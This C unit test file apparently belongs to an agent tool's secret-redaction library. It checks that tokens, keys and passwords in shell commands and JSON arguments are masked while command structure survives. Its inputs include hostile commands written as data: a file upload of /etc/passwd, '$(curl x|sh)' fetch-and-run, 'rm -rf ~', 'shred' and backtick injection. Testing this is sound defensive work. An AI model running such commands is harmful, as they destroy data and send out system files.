/*
 * Secrets are hidden, and nothing else: above all no command that someone must approve.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <string.h>

#include "text/text.h"

#define B64 "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
#define R "[REDACTED]"

static const struct {
	const char *in, *out; /* NULL: unchanged */
} rows[] = {
	{ "curl -H \"Authorization: Bearer sk-abc123\" https://x",
	  "curl -H \"Authorization: Bearer " R "\" https://x" },
	{ "curl -H 'Authorization: Basic dXNlcjpwYXNz' x",
	  "curl -H 'Authorization: Basic " R "' x" },
	{ "authorization:\tabc", "authorization:\t" R },
	{ "X-Api-Key: 123abc", "X-Api-Key: " R },
	{ "-H x-api-key:abc", "-H x-api-key:" R },
	{ "token bearer abc.def", "token bearer " R },
	{ "PASSWORD=hunter2 psql -h db", "PASSWORD=" R " psql -h db" },
	{ "mytool --token abc123XYZ --secret-key deadbeef1234",
	  "mytool --token " R " --secret-key " R },
	{ "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE",
	  "aws configure set aws_access_key_id " R },
	{ "git clone https://ghp_0123456789abcdefghij0123@github.com/x",
	  "git clone https://" R "@github.com/x" },
	{ "github_pat_11ABCDEFG0123456789_abcdef", R },
	{ "export API_KEY=abc123", "export API_KEY=" R },
	{ "GITHUB_TOKEN=a1 x", "GITHUB_TOKEN=" R " x" },
	{ "DB_PASSWORD=a1 x", "DB_PASSWORD=" R " x" },
	{ "AWS_SECRET_ACCESS_KEY=a1 x", "AWS_SECRET_ACCESS_KEY=" R " x" },
	{ "PASSWD=a1 x", "PASSWD=" R " x" },
	{ "client_secret=a1&b=2", "client_secret=" R "&b=2" },
	{ "tool --api-key=abcdef", "tool --api-key=" R },
	{ "https://h/p?token=abc&x=1", "https://h/p?token=" R "&x=1" },
	{ "API_KEY=\"abc\" run", "API_KEY=\"" R "\" run" },
	{ "{\"api_key\": \"abc\", \"n\": 1}", "{\"api_key\": \"" R "\", \"n\": 1}" },
	{ "tool --password 'p4ss' go", "tool --password '" R "' go" },
	{ "mysql -phunter2 db", "mysql -p" R " db" },
	{ "-phunter2", "-p" R },
	{ "echo " B64, "echo " R },
	{ "echo QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0YQ==;ls", "echo " R ";ls" },
	{ "https://user:pass@host/x", "https://user:" R "@host/x" },
	{ "redis://:p@ss@host", "redis://:" R "@host" },
	{ "postgres://u:p!x*y@h/db", "postgres://u:" R "@h/db" },
	{ "use sk-abcdefgh now", "use " R " now" },
	{ "GET /bot123456789:AAEabcdefghijklmnopqrstuvwxyz012345/getMe",
	  "GET /bot" R "/getMe" },
	{ "AKIAIOSFODNN7EXAMPLEsk-abcdefgh", R R },
	{ "echo a\xff token=\xc3\xa9", NULL },

	{ "Authorization: Negotiate YII=", "Authorization: Negotiate " R },
	{ "glpat-abcdefghij123456", R },
	{ "gho_0123456789abcdefghij", R },
	{ "ghu_0123456789abcdefghij", R },
	{ "ghs_0123456789abcdefghij", R },
	{ "ghr_0123456789abcdefghij", R },
	{ "AIza0123456789-abcdefghij-0123456789", R },
	{ "xoxb-0123456789-abcdef", R },
	{ "xoxp-0123456789-abcdef", R },
	{ "Abcdefghijklmnopqrstuvwxyz012345", R },
	{ "https://u:pw@Abcdefghijklmnopqrstuvwxyz012345",
	  "https://u:" R "@Abcdefghijklmnopqrstuvwxyz012345" },

	{ "Abcdefghijklmnopqrstuvwxyz01234", NULL },
	{ "mybearer abcdef", NULL },
	{ "bearerless words", NULL },
	{ "-H 'Authorization: Basic'x", NULL },
	{ "a--token abc", NULL },
	{ "echo '-pabc'", NULL },
	{ "\"api_key\": abc", NULL },
	{ "https://u:a;b@h", NULL },
	{ "12345:AAEabcdefgh-ijklmnopqrstuvwxyz01234", NULL },
	{ "ls -la /workspace", NULL },
	{ "ls /workspace/tiennm99dev/MTClaw/internal/tools", NULL },
	{ "cat /workspace/tiennm99dev/MTClaw/internal/tools/exec.go", NULL },
	{ "https://example.com/Some/Long/Path/With1/Digits/And/More", NULL },
	{ "https://host:8080/path@x", NULL },
	{ "desk-abcdefghijkl and risk-abcdefghijk", NULL },
	{ "sk-short", NULL },
	{ "the key: value stays, token: too", NULL },
	{ "mkdir -p dir", NULL },
	{ "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", NULL },
	{ "3f786850e387550fdab836ed7e6dc881de23001b", NULL },
	{ "time 12:30:45 and 1234567:short", NULL },
	{ "", NULL },

	/* The word after a separator is never swallowed. */
	{ "echo --secret; bash /tmp/x.sh", NULL },
	{ "echo Bearer\nshred -u /home/me/file", NULL },
	{ "echo authorization:\nbash /tmp/payload", NULL },
	{ "echo --token\nbash /tmp/payload", NULL },
	{ "rm --token -rf /home/me", NULL },
	{ "ls -p;curl${IFS}-T/etc/passwd", NULL },
	{ "git --token=a$(curl x|sh) status", "git --token=" R "$(curl x|sh) status" },
	{ "API_KEY=abc`whoami`;echo done", "API_KEY=" R "`whoami`;echo done" },
	{ "echo hi && SECRET=x<y>z", "echo hi && SECRET=" R "<y>z" },
	{ "curl -H \"Authorization: Bearer sk-abc\" ; rm -rf ~",
	  "curl -H \"Authorization: Bearer " R "\" ; rm -rf ~" },
};

static size_t count(str s, char c)
{
	size_t n = 0;

	for (size_t i = 0; i < s.n; i++)
		n += s.p[i] == c;
	return n;
}

static void secrets_are_hidden_and_the_rest_is_left_alone(void **state)
{
	for (size_t i = 0; i < COUNT(rows); i++) {
		SCOPED(arena_free) struct arena a = { 0 };

		assert_string_equal(text_redact(&a, str_of(rows[i].in)).p,
				    rows[i].out ? rows[i].out : rows[i].in);
	}
}

static void shell_structure_stays_and_a_second_pass_changes_nothing(void **state)
{
	static const char structure[] = ";|&$()<>` \n\"'";

	for (size_t i = 0; i < COUNT(rows); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		str in = str_of(rows[i].in), out = text_redact(&a, in);

		for (const char *c = structure; *c; c++)
			if (count(in, *c) != count(out, *c))
				fail_msg("%s: %s", rows[i].in, out.p);
		assert_string_equal(text_redact(&a, out).p, out.p);
	}
}

static void long_text_is_never_truncated(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct buf b = buf_in(&a, 1 << 20);

	for (int i = 0; i < 1000; i++)
		buf_add(&b, S("echo hi; "));
	assert_true(str_eq(text_redact(&a, buf_str(&b)), buf_str(&b)));
}

static const str values[] = { { "hunter2", 7 },       { "short", 5 },       { "p/w+d: x", 8 },
			      { "hunter2-long", 12 }, { "100%25sure", 10 }, { "", 0 } };

static const struct {
	const char *in, *out;
} by_value[] = {
	{ "my hunter2 and hunter2hunter2", "my " R " and " R R },
	{ "the longest: hunter2-long.", "the longest: " R "." },
	{ "a short one is not looked for", NULL },
	{ "p/w+d: x", R },
	{ "u=p%2Fw%2Bd%3A%20x&", "u=" R "&" },
	{ "u=p%2fw%2bd%3a%20x&", "u=" R "&" },
	{ "u=p/w%2Bd:%20x&", "u=" R "&" },
	{ "%68unter2", R },
	{ "%68unter3 %6 %", NULL },
	{ "100%25sure 100%2525sure", R " " R },
	{ "Hunter2", NULL },
	{ "hunter", NULL },
	{ "", NULL },
};

static void known_values_are_hidden_also_percent_encoded(void **state)
{
	for (size_t i = 0; i < COUNT(by_value); i++) {
		SCOPED(arena_free) struct arena a = { 0 };

		assert_string_equal(
			text_redact_values(&a, str_of(by_value[i].in), values, COUNT(values)).p,
			by_value[i].out ? by_value[i].out : by_value[i].in);
	}
}

static const struct {
	const char *in, *out; /* NULL: unchanged, to the byte */
} arguments[] = {
	{ "{\"Authorization\":\"abc\",\"key\":\"abc\"}",
	  "{\"Authorization\":\"" R "\",\"key\":\"abc\"}" },
	{ "{\"command\":\"PASSWORD=\\\"hunter3\\\" psql\"}",
	  "{\"command\":\"PASSWORD=\\\"" R "\\\" psql\"}" },
	{ "{\"command\":\"echo a\\nsk-abcdefghij\"}", "{\"command\":\"echo a\\n" R "\"}" },
	{ "{\"command\":\"echo \\u0073k-abcdefghij\"}", "{\"command\":\"echo " R "\"}" },
	{ "{\"text\":\"my hunter2, p\\/w+d: x\"}", "{\"text\":\"my " R ", " R "\"}" },
	{ "{\"api_key\":\"a b c\",\"n\":1}", "{\"api_key\":\"" R "\",\"n\":1}" },
	{ "{\"Password\": 1234, \"db\":{\"authToken\":\"x\"}}",
	  "{\"Password\":\"" R "\",\"db\":{\"authToken\":\"" R "\"}}" },
	{ "{\"token\":[\"a\",\"b\"],\"secret\":{\"x\":\"y\"}}",
	  "{\"token\":[\"" R "\",\"" R "\"],\"secret\":{\"x\":\"y\"}}" },
	{ "{\"list\":[\"curl -H 'Authorization: Bearer abc'\"]}",
	  "{\"list\":[\"curl -H 'Authorization: Bearer " R "'\"]}" },
	{ "token=abc and no JSON", "token=" R " and no JSON" },
	{ "{ \"key\" : \"coffee\", \"f\": 1.50, \"s\": \"\\u00e9\" }", NULL },
	{ "{\"password\":\"\",\"token\":null,\"monkey\":[]}", NULL },
	{ "{}", NULL },
	{ "", NULL },
};

static void secrets_in_arguments_are_hidden_through_their_escapes(void **state)
{
	for (size_t i = 0; i < COUNT(arguments); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		const char *want = arguments[i].out ? arguments[i].out : arguments[i].in;
		str out = text_redact_args(&a, str_of(arguments[i].in), values, COUNT(values));

		assert_string_equal(out.p, want);
		assert_string_equal(text_redact_args(&a, out, values, COUNT(values)).p, want);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(secrets_are_hidden_and_the_rest_is_left_alone),
		cmocka_unit_test(shell_structure_stays_and_a_second_pass_changes_nothing),
		cmocka_unit_test(long_text_is_never_truncated),
		cmocka_unit_test(secrets_in_arguments_are_hidden_through_their_escapes),
		cmocka_unit_test(known_values_are_hidden_also_percent_encoded),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
